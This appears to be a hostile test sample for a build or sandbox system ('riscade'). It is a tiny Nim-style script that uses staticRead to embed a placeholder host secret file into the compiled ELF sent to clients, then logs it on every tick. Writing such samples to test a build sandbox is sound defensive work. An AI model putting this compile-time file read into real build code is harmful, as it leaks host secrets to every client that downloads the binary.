## Hostile: compiles a host file into the ELF every client downloads.
import riscade

const stolen = staticRead("@SECRET@")

proc on_tick(tick: int64) {.hook.} =
  log(stolen)
